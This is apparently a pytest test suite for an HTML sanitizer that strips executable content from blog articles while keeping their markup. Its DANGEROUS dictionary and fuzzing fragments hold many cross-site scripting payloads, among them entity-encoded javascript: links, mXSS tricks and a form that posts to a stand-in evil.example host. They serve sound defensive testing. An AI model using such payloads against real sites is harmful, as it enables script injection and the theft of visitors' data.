"""sanitize_html lets nothing executable through and keeps the article's markup (#4)."""

from __future__ import annotations

import re

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mash.sanitize import (
    MAX_DEPTH,
    MAX_HTML_CHARS,
    _bound_html,
    _cleaner,
    _drop_tracking_images,
    estimate_depth,
    html_limits_problem,
    html_to_text,
    sanitize_html,
)

BASE = "https://blog.example/2024/05/post/"
_EXECUTABLE_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "svg", "math", "meta", "base", "link", "noscript",
    "template", "video", "audio", "canvas",
}  # fmt: skip
_SAFE_SCHEMES = ("http:", "https:", "mailto:")


def assert_inert(html: str) -> None:
    """Fail when html holds a tag, attribute or URL that could run code or load a page."""
    assert "<script" not in html.lower()
    assert not re.search(r"\son\w+\s*=", html, re.I)
    assert "javascript:" not in html.lower() and "vbscript:" not in html.lower()
    if not html.strip():
        return
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in _EXECUTABLE_TAGS, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            assert name.lower() not in ("style", "srcdoc", "formaction", "xlink:href", "action")
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value, re.I)
            if name in ("href", "src") and scheme:
                assert f"{scheme.group(1).lower()}:" in _SAFE_SCHEMES, value


DANGEROUS = {
    "script tag": "<p>Hi</p><script>alert(1)</script>",
    "script upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>Hi</p>",
    "script split by null": "<scr\x00ipt>alert(1)</script><p>Hi</p>",
    "img onerror": '<img src="x.png" onerror="alert(1)">',
    "body onload": '<body onload="alert(1)"><p>Hi</p></body>',
    "onmouseover unquoted": "<p onmouseover=alert(1)>Hi</p>",
    "on handler after slash": '<img/src="x.png"/onerror=alert(1)>',
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript upper case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript entity-encoded": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript hex entities": '<a href="&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)">x</a>',
    "javascript no semicolons": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript tab inside": '<a href="jav\tascript:alert(1)">x</a>',
    "javascript entity tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript newline inside": '<a href="java\nscript:alert(1)">x</a>',
    "javascript leading space": '<a href="  \x01javascript:alert(1)">x</a>',
    "javascript img src": '<img src="javascript:alert(1)">',
    "vbscript href": '<a href="vbscript:msgbox(1)">x</a>',
    "data href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data img src": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style attribute": '<p style="background:url(javascript:alert(1))">Hi</p>',
    "style expression": '<p style="width: expression(alert(1))">Hi</p>',
    "style tag": "<style>@import 'https://evil.example/x.css';</style><p>Hi</p>",
    "svg onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg xlink href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animate": '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
    "math mglyph mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "form": '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
    "form formaction": '<button formaction="javascript:alert(1)">x</button>',
    "textarea breakout": "<textarea></textarea><script>alert(1)</script>",
    "iframe": '<iframe src="https://evil.example/"></iframe><p>Hi</p>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>Hi</p>',
    "base href": '<base href="https://evil.example/"><a href="/x">x</a>',
    "link import": '<link rel="import" href="https://evil.example/x.html">',
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment breakout": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "template": "<template><script>alert(1)</script></template>",
    "video poster": '<video poster="javascript:alert(1)" onerror="alert(1)"></video>',
    "a target": '<a href="https://ok.example/" target="_blank" onclick="x()">x</a>',
}


@pytest.mark.parametrize("html", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_nothing_executable_survives(html: str) -> None:
    out = sanitize_html(html, BASE)
    assert_inert(out)
    assert_inert(sanitize_html(html))
    assert not re.search(r'(?:href|src)="(?!https?://|mailto:)', out)


def test_article_markup_is_kept() -> None:
    html = (
        "<h2>Heading</h2><p>Some <em>em</em> and <strong>strong</strong> text.</p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>quote</p></blockquote>"
        "<pre><code>x = 1</code></pre>"
        '<figure><img src="https://cdn.example/a.png" alt="A chart" width="640" height="480">'
        "<figcaption>Caption</figcaption></figure>"
        "<table><tr><th>h</th></tr><tr><td>d</td></tr></table>"
        '<p><a href="https://other.example/" title="Other">link</a></p>'
    )
    out = sanitize_html(html, BASE)
    for kept in ("<h2>", "<em>", "<strong>", "<ul>", "<ol>", "<li>", "<blockquote>", "<pre>",
                 "<code>", "<figure>", "<figcaption>", "<table>", "<th>", "<td>"):  # fmt: skip
        assert kept in out
    assert '<img src="https://cdn.example/a.png" alt="A chart" width="640" height="480">' in out
    assert 'href="https://other.example/"' in out and 'title="Other"' in out
    assert 'rel="noopener nofollow"' in out


def test_relative_urls_become_absolute() -> None:
    out = sanitize_html('<a href="../other/">o</a><img src="/img/a.png" alt="a">', BASE)
    assert 'href="https://blog.example/2024/05/other/"' in out
    assert 'src="https://blog.example/img/a.png"' in out


def test_mailto_links_survive() -> None:
    assert 'href="mailto:editor@blog.example"' in sanitize_html(
        '<a href="mailto:editor@blog.example">mail</a>', BASE
    )


@pytest.mark.parametrize(
    "img",
    [
        '<img src="https://blog.example/p.gif" width="1" height="1">',
        '<img src="https://blog.example/p.gif" width="0" height="0" alt="">',
        '<img src="https://pixel.wp.com/g.gif?blog=1&amp;post=2">',
        '<img src="https://stats.wordpress.com/b.gif?x=1">',
        '<img src="http://feeds.feedburner.com/~r/blog/~4/abc">',
        '<img src="https://www.google-analytics.com/collect?v=1">',
    ],
)
def test_tracking_pixels_are_removed(img: str) -> None:
    out = sanitize_html(f"<p>Text {img}</p>", BASE)
    assert "<img" not in out
    assert "Text" in out


def test_real_images_stay_beside_pixels() -> None:
    html = '<img src="/a.png" alt="a" width="300"><img src="/p.gif" width="1" height="1">'
    out = sanitize_html(html, BASE)
    assert out.count("<img") == 1 and "a.png" in out


def test_deep_nesting_returns_flattened() -> None:
    depth = 100_000
    html = "<div>" * depth + "deep text" + "</div>" * depth + "<p>after</p>"
    assert estimate_depth(html) >= depth
    problem = html_limits_problem(html)
    assert problem is not None and "deep" in problem
    out = sanitize_html(html, BASE)
    assert "deep text" in out and "after" in out
    assert out.count("<div>") <= MAX_DEPTH + 1


def test_oversized_input_is_cut_and_reported() -> None:
    html = "<p>" + "word " * (MAX_HTML_CHARS // 5 + 10) + "</p>"
    assert "characters" in (html_limits_problem(html) or "")
    assert len(sanitize_html(html)) <= MAX_HTML_CHARS + 100


def test_ordinary_html_is_within_limits() -> None:
    assert html_limits_problem("<div><p>fine</p></div>" * 100) is None


def test_html_to_text_puts_blocks_on_lines() -> None:
    html = "<h2>Title</h2><p>One <b>bold</b> line<br>and a break</p><ul><li>a</li><li>b</li></ul>"
    assert html_to_text(html) == "Title\nOne bold line\nand a break\na\nb"


def test_html_to_text_of_nothing() -> None:
    assert html_to_text("") == ""
    assert html_to_text("   ") == ""
    assert html_to_text("<img src='https://x.example/a.png'>") == ""


_FRAGMENTS = st.sampled_from(
    [
        "<script>", "</script>", "<p>", "</p>", "<div>", "</div>", "<a href='javascript:x'>",
        "<a href=/rel>", "</a>", "<img src=x onerror=alert(1)>", "<svg onload=x>", "</svg>",
        "<math>", "<mtext>", "<mglyph>", "<style>", "</style>", "<table>", "<td>", "<tr>",
        "</table>", "<b>", "</b>", "<i>", "<!--", "-->", "<![CDATA[", "]]>", "<noscript>",
        "</noscript>", "<textarea>", "</textarea>", "<title>", "<select>", "<option>",
        "<iframe>", "<form>", "<li>", "<ul>", "<h2>", "<blockquote>", "<pre>", "&lt;",
        "&#x6A;", "&amp;", '"', "'", "=", " on", "onclick=", "<", ">", "/", "\x00",
        "<img src=https://x.example/a.png width=1 height=1>", "<p title='</p><script>'>",
    ]
)  # fmt: skip
_HTMLISH = st.lists(st.one_of(_FRAGMENTS, st.text(max_size=8)), max_size=30).map("".join)


@settings(max_examples=300, deadline=None)
@given(_HTMLISH)
def test_sanitize_is_idempotent_and_inert(html: str) -> None:
    once = sanitize_html(html, BASE)
    assert sanitize_html(once, BASE) == once
    assert "<script" not in once.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", once, re.I)


@settings(max_examples=300, deadline=None)
@given(_HTMLISH)
def test_shared_cleaner_gives_what_a_cleaner_per_base_gives(html: str) -> None:
    # the shortcut of #8: a Cleaner for the post's base only when a relative URL is left
    per_base = _cleaner(BASE)
    once = _drop_tracking_images(per_base.clean(_bound_html(html)))
    assert sanitize_html(html, BASE) == _drop_tracking_images(per_base.clean(once))


def test_unclosed_paragraphs_are_not_taken_for_depth() -> None:
    html = "<div>" + "<p>para <li>item " * 1_500 + "</div>"
    assert estimate_depth(html) > 1_000
    assert html_limits_problem(html) is None


@pytest.mark.parametrize(
    "html",
    [
        "<pre>\n\nx</pre>",  # each parse drops the first newline of a <pre>
        "<p><ul><li>a</ul>",
        '<a href="https://a.example/">x<a href="https://b.example/">y</a></a>',
        "<h1>a<h2>b</h2></h1>",
        "<table><p>x</p><tr><td>y</table>",
        "<b><p>a</b>b</p>",
        "<p>a<!-- <p> -->b",
        "<p>plain, <em>already clean</em></p><ul><li>one</li></ul>",
    ],
)
def test_one_sanitising_pass_is_kept_only_where_it_is_the_fixed_point(html: str) -> None:
    # #8: the second nh3 pass is skipped when the first changed no tag
    once = sanitize_html(html, BASE)
    assert sanitize_html(once, BASE) == once
